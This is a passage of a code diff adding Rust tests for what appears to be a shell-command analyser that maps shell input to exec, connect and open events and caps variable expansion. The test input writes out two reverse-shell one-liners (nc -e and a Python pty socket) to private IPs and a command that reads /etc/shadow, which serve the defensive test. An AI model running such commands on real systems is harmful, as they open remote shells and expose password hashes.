+            "nc -e /bin/sh 10.0.0.1 4444\npython3 -c 'import socket,pty;s=socket.socket();s.connect((\"10.0.0.2\",5555));pty.spawn(\"/bin/sh\")'\nfind /etc -exec cat /etc/shadow \\;",
+            &sh,
+            || {
+                next += 1;
+                next
+            },
+        );
+        let got: Vec<String> = evs
+            .iter()
+            .map(|e| {
+                format!(
+                    "{} {}<{} {}/{} {}",
+                    e.kind.as_deref().unwrap(),
+                    e.comm.as_deref().unwrap(),
+                    e.parent_comm.as_deref().unwrap(),
+                    e.pid.unwrap(),
+                    e.ppid.unwrap(),
+                    e.path.clone().or(e.remote_ip.clone()).unwrap_or_default(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            got,
+            [
+                "exec nc<bash 1001/500 ",
+                "connect nc<bash 1001/500 10.0.0.1",
+                "exec sh<bash 1001/500 ",
+                "exec python3<bash 1002/500 ",
+                "connect python3<bash 1002/500 10.0.0.2",
+                "exec sh<python3 1003/1002 ",
+                "exec find<bash 1004/500 ",
+                "exec cat<find 1005/1004 ",
+                "open cat<find 1005/1004 /etc/shadow",
+            ]
+        );
+    }
+
+    #[test]
     fn hostile_lines_stay_bounded() {
+        // Variables that double at each step stay within the expansion cap.
+        let mut s = "A=xxxxxxxxxxxxxxxx\n".to_string();
+        for _ in 0..40 {
+            s.push_str("A=$A$A$A$A\n");
+        }
+        s.push_str("ls $A");
+        let got = execs(&s);
+        assert!(got.iter().map(|(_, a)| a.len()).sum::<usize>() <= 2 * MAX_EXPANSION);
+        let many: String = (0..10_000).map(|i| format!("V{i}=x; ")).collect();
+        let mut vars = Vars::default();
+        expand_in(&many, &mut vars);
+        assert_eq!(vars.0.len(), MAX_VARS);
         let bomb = "$(".repeat(500) + &")".repeat(500);
         assert!(expand(&bomb).len() <= MAX_EXECS * 2);
         let many = "a;".repeat(10_000);
